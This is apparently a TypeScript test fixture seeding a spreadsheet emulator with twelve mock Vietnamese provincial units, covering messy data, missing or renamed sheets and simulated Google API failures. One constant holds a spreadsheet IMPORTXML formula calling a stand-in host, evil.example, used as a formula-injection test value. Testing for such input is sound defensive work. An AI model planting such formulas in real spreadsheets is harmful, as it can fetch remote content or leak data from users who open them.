import { cleanUnitTabs, provinceSeed, type Seed, serial, templateTab, unitSeed } from "./seeds.ts";

/**
 * A province of twelve units that do everything a unit can: clean, messy (formula text,
 * odd dates, unknown dropdown values, a total row), unshared, deleted, a tab missing, a
 * column renamed, no spreadsheet, Google failing once or for good, too slow, a duplicate
 * code. Ids unique to it: the emulator is shared by every test file.
 */

export const P = "cons-tinh";
export const id = (code: string) => `cons-${code.toLowerCase()}`;
export const IMPORTXML = '=IMPORTXML("http://evil.example/x","//a")';

const messyTabs = [
  templateTab(
    "inspections",
    [
      [IMPORTXML, "05/06/2026", "BCĐ tỉnh", "kiểm tra", "Doanh nghiệp", "1.500", "x"],
      ["Công ty B".normalize("NFD"), "2026-07-01", "BCĐ huyện", "Giám sát", "Doanh nghiệp", "", ""],
      ["Tổng cộng", "", "", "", "", 1500, ""],
      ["Công ty C", "31/02/2026", "BCĐ tỉnh", "Kiểm tra", "Doanh nghiệp", "", ""],
      ["Công ty D", "10/10/2026", "Sở Nội vụ", "Kiểm tra", "Doanh nghiệp", "", ""],
    ],
    {
      // Decomposed, lower-case title: Google cannot parse the template's range for it.
      title: "kiểm tra, giám sát".normalize("NFD"),
      above: [["BIỂU KIỂM TRA, GIÁM SÁT NĂM 2026"], []],
      headers: [
        "Đơn vị được kiểm tra",
        "Ngày kiểm tra",
        "Chủ thể kiểm tra",
        "Hình thức",
        "Loại hình",
        "Số kiến nghị",
        "Người ghi",
      ],
    },
  ),
  templateTab(
    "awards",
    [["5/QĐ-UBND", "01/03/2026", "UBND huyện", "Giấy khen", "Hộ gia đình", "Hộ ông B", "Khác", ""]],
    { title: "KHEN THƯỞNG" },
  ),
  templateTab("dialogues", [
    [serial("2026-12-20"), "Bí thư", "Xã X", 10, "", ""], // 2027 under decree09
    [serial("2026-12-14"), "Bí thư", "Xã X", 30, "", ""],
  ]),
  templateTab("trainings", [["15-12-2025", "Hội nghị", "Triển khai", "không"]]),
];

const renamedColumnTabs = cleanUnitTabs().map((tab) =>
  tab.title === "Kiểm tra, giám sát"
    ? { ...tab, values: [["Ngày KT", ...tab.values![0]!.slice(1)], ...tab.values!.slice(1)] }
    : tab,
);

export function mixedProvince(): Seed[] {
  return [
    provinceSeed(P, [
      ["C01", "Đơn vị sạch", id("C01")],
      ["C02", "Đơn vị lộn xộn", `https://docs.google.com/spreadsheets/d/${id("C02")}/edit#gid=0`],
      ["C03", "Chưa chia sẻ", id("C03")],
      ["C04", "Google lỗi 503 một lần", id("C04")],
      ["C05", "Bảng tính không tồn tại", id("C05")],
      ["C06", "Thiếu trang", id("C06")],
      ["C07", "Sửa tên cột", id("C07")],
      ["C08", "Chưa có bảng tính", ""],
      ["C09", "Google hết hạn mức một lần", id("C09")],
      ["C10", "Google lỗi 500 mãi", id("C10")],
      ["C01", "Dòng trùng mã", id("C01")],
      ["C11", "Google trả lời quá chậm", id("C11")],
      ["C12", "Google hết hạn mức mãi", id("C12")],
    ]),
    unitSeed(id("C01"), "C01", cleanUnitTabs()),
    unitSeed(id("C02"), "C02", messyTabs),
    unitSeed(id("C03"), "C03", cleanUnitTabs(), { deny: true }),
    unitSeed(id("C04"), "C04", cleanUnitTabs(), { failFirst: 1, failStatus: 503 }),
    unitSeed(id("C06"), "C06", cleanUnitTabs().slice(0, 1)),
    unitSeed(id("C07"), "C07", renamedColumnTabs),
    unitSeed(id("C09"), "C09", cleanUnitTabs(), { failFirst: 1, failStatus: 429 }),
    unitSeed(id("C10"), "C10", cleanUnitTabs(), { failFirst: 1000, failStatus: 500 }),
    unitSeed(id("C11"), "C11", cleanUnitTabs(), { latencyMs: 5_000 }),
    unitSeed(id("C12"), "C12", cleanUnitTabs(), { failFirst: 1000, failStatus: 429 }),
  ];
}
